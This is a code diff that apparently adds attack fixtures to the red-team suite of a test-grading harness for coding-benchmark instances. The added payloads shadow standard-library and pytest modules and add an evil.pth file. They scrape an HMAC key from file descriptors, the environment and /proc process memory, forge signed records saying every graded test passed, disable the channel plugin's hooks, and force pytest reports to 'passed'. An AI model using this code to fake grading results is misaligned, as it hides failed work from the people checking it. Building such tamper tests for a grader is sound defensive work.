@@ -530,3 +530,248 @@ RAW_ATTACKS: dict[str, RawAttack] = {
         gitlink_conftest,
     )
 }
+
+
+# -- A repository module that runs before, or inside, the test runner (issue #25 item 3).
+# The payload hunts for the channel's key (fd 3, stdin, the environment, every descriptor and
+# the memory of this process and of its parent), writes forged records signed with whatever it
+# found, and rewrites the channel plugin's hook functions in place. It prints
+# ``SANDLOT-SHADOW-RAN <where> <candidates>`` when it runs, so a test can say whether it ran and
+# what it got. A shadowing module then turns into the real module it stands in for.
+
+SHADOW_MARK = "SANDLOT-SHADOW-RAN"
+
+_PAYLOAD = r"""
+import os as _os
+import sys as _sys
+
+
+def _sandlot_attack(where, graded):
+    import gc
+    import hashlib
+    import hmac
+    import json
+    import re
+
+    hexkey = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
+    found = set()
+
+    def scan(data):
+        found.update(m.decode() for m in hexkey.findall(data or b""))
+
+    def read_path(path, limit=1 << 16):
+        try:
+            fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
+        except OSError:
+            return b""
+        try:
+            return _os.read(fd, limit)
+        except OSError:
+            return b""
+        finally:
+            _os.close(fd)
+
+    # (a) the key
+    for fd in (3, 0):
+        try:
+            _os.set_blocking(fd, False)
+            scan(_os.read(fd, 4096))
+        except OSError:
+            pass
+    scan("\n".join(k + "=" + v for k, v in _os.environ.items()).encode())
+    records = set()
+    for pid in ("self", str(_os.getppid())):
+        for name in ("environ", "cmdline"):
+            scan(read_path("/proc/%s/%s" % (pid, name)))
+        try:
+            fds = _os.listdir("/proc/%s/fd" % pid)
+        except OSError:
+            fds = []
+        for fd in fds:
+            try:
+                target = _os.readlink("/proc/%s/fd/%s" % (pid, fd))
+            except OSError:
+                continue
+            if target.endswith("/records"):
+                records.add(target)
+            scan(read_path("/proc/%s/fd/%s" % (pid, fd)))
+        try:
+            with open("/proc/%s/maps" % pid) as f:
+                maps = f.read().splitlines()
+            with open("/proc/%s/mem" % pid, "rb", 0) as mem:
+                for line in maps:
+                    span, perms = line.split()[:2]
+                    lo, hi = (int(x, 16) for x in span.split("-"))
+                    if "rw" not in perms or hi - lo > (64 << 20):
+                        continue
+                    try:
+                        mem.seek(lo)
+                        scan(mem.read(hi - lo))
+                    except (OSError, ValueError, OverflowError):
+                        pass
+        except OSError:
+            pass
+    for base in ("/tmp", "/var/tmp"):
+        for dirpath, _dirs, files in _os.walk(base):
+            if "records" in files and "channel-" in dirpath:
+                records.add(_os.path.join(dirpath, "records"))
+    print("%s %s %s" % ("SANDLOT-SHADOW-RAN", where, sorted(found)), flush=True)
+
+    # (b) forged records, signed with every candidate (and a made-up key), over the real ones
+    keys = [bytes.fromhex(k) for k in found] + [_os.urandom(32)]
+    for key in keys:
+        lines = []
+        bodies = [{"k": "start", "pid": _os.getpid(), "pytest": "?"},
+                  {"k": "items", "ids": graded, "xfail": [], "code_files": {}}]
+        for test in graded:
+            for when in ("setup", "call", "teardown"):
+                bodies.append({"k": "phase", "id": test, "when": when, "outer": "passed",
+                               "inner": "passed", "raw": None, "wasxfail": False})
+        bodies.append({"k": "end", "exitstatus": 0})
+        for n, body in enumerate(bodies):
+            body["n"] = n
+            text = json.dumps(body, sort_keys=True)
+            lines.append(text + "\t" + hmac.new(key, text.encode(), hashlib.sha256).hexdigest())
+        for path in records:
+            try:
+                with open(path, "w") as f:
+                    f.write("\n".join(lines) + "\n")
+            except OSError:
+                pass
+
+    # (c) the channel plugin's hooks, rewritten in place (pluggy holds the function objects)
+    def quiet(*args, **kwargs):
+        yield
+
+    for obj in gc.get_objects():
+        if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
+            for plugin in obj.pluginmanager.get_plugins():
+                if str(getattr(plugin, "__name__", "")).startswith("sandlot_channel"):
+                    for name in dir(plugin):
+                        if name.startswith("pytest_"):
+                            getattr(plugin, name).__code__ = quiet.__code__
+    # ... and for what loads after this: hmac.new and os.read that keep what they see
+    _new, _read = hmac.new, _os.read
+
+    def new(key, *args, **kwargs):
+        print("SANDLOT-SHADOW-KEY", bytes(key).hex(), flush=True)
+        return _new(key, *args, **kwargs)
+
+    def read(fd, n):
+        data = _read(fd, n)
+        if fd == 3:
+            print("SANDLOT-SHADOW-KEY", data, flush=True)
+        return data
+
+    hmac.new, _os.read = new, read
+"""
+
+_BECOME_REAL = r"""
+
+def _become_real():
+    here = _os.path.dirname(_os.path.abspath(__file__))
+    top = _os.path.dirname(here) if __file__.endswith("__init__.py") else here
+    saved = list(_sys.path)
+    _sys.path[:] = [p for p in _sys.path if _os.path.realpath(p or ".") != _os.path.realpath(top)]
+    del _sys.modules[__name__]
+    try:
+        _sys.modules[__name__] = __import__(__name__)
+    except ImportError:
+        pass
+    finally:
+        _sys.path[:] = saved
+
+
+_become_real()
+"""
+
+
+def shadow_module(inst: Instance, where: str) -> str:
+    """A module that attacks as it is imported, then turns into the module it shadows."""
+    graded = inst.FAIL_TO_PASS + inst.PASS_TO_PASS
+    return f"{_PAYLOAD}\n_sandlot_attack({where!r}, {graded!r})\n{_BECOME_REAL}"
+
+
+# Modules Python or pytest imports before the tests, and some it imports lazily later (pdb in
+# pytest_configure, tomllib/tomli for pyproject.toml, difflib and pprint on a failed assert):
+# standard-library names, pytest's dependencies, start-up hooks.
+STARTUP_SHADOWS: dict[str, tuple[str, ...]] = {
+    "stdlib": (
+        "argparse.py",
+        "pathlib.py",
+        "shlex.py",
+        "pdb.py",
+        "readline.py",
+        "tomllib.py",
+        "difflib.py",
+        "pprint.py",
+        "inspect.py",
+        "warnings.py",
+    ),
+    "runner": (
+        "pytest.py",
+        "_pytest/__init__.py",
+        "pluggy/__init__.py",
+        "iniconfig/__init__.py",
+        "packaging/__init__.py",
+        "pygments/__init__.py",
+        "typing_extensions.py",
+        "tomli/__init__.py",
+        "exceptiongroup/__init__.py",
+        "importlib_metadata/__init__.py",
+        "py.py",
+    ),
+    "hooks": ("sitecustomize.py", "usercustomize.py"),
+}
+
+
+def startup_shadows(
+    inst: Instance, names: tuple[str, ...], under: str = ""
+) -> dict[str, str | None]:
+    edits: dict[str, str | None] = {
+        f"{under}{name}": shadow_module(inst, f"{under}{name}") for name in names
+    }
+    if "sitecustomize.py" in names:
+        edits[f"{under}evil.pth"] = f"import sys; print('{SHADOW_MARK} pth {under}', flush=True)\n"
+    return edits
+
+
+def late_payload(inst: Instance) -> dict[str, str | None]:
+    """The same payload run by the code under test, after the channel opened."""
+    graded = inst.FAIL_TO_PASS + inst.PASS_TO_PASS
+    return _in_ops(inst, f"{_PAYLOAD}\n_sandlot_attack('code under test', {graded!r})\n")
+
+
+def plugin_by_name(inst: Instance) -> dict[str, str | None]:
+    """Code under test that knows this plugin: it signs with the plugin's own channel object
+    (records that say passed, no ``tamper`` or ``plugin`` records) and makes pytest's reports,
+    hence the log, pass. The residual risk of an in-process channel (docs, section 2)."""
+    return _in_ops(
+        inst,
+        "import gc as _gc, pytest as _pytest\n"
+        "def _forge():\n"
+        "    for _o in _gc.get_objects():\n"
+        "        if type(_o).__name__ != 'Config' or not hasattr(_o, 'pluginmanager'):\n"
+        "            continue\n"
+        "        for _p in _o.pluginmanager.get_plugins():\n"
+        "            _st = getattr(_p, '_state', None)\n"
+        "            _name = str(getattr(_p, '__name__', ''))\n"
+        "            if not _name.startswith('sandlot_channel') or _st is None:\n"
+        "                continue\n"
+        "            _send = type(_st.channel).send\n"
+        "            def send(self, kind, **f):\n"
+        "                if kind in ('tamper', 'plugin'):\n"
+        "                    return\n"
+        "                if kind == 'phase':\n"
+        "                    f.update(outer='passed', inner='passed', raw=None)\n"
+        "                return _send(self, kind, **f)\n"
+        "            type(_st.channel).send = send\n"
+        "            class _F:\n"
+        "                @_pytest.hookimpl(hookwrapper=True)\n"
+        "                def pytest_runtest_makereport(self, item, call):\n"
+        "                    out = yield\n"
+        "                    rep = out.get_result()\n"
+        "                    rep.outcome, rep.longrepr = 'passed', None\n"
+        "            _o.pluginmanager.register(_F(), 'f')\n"
+        "_forge()\n",
+    )
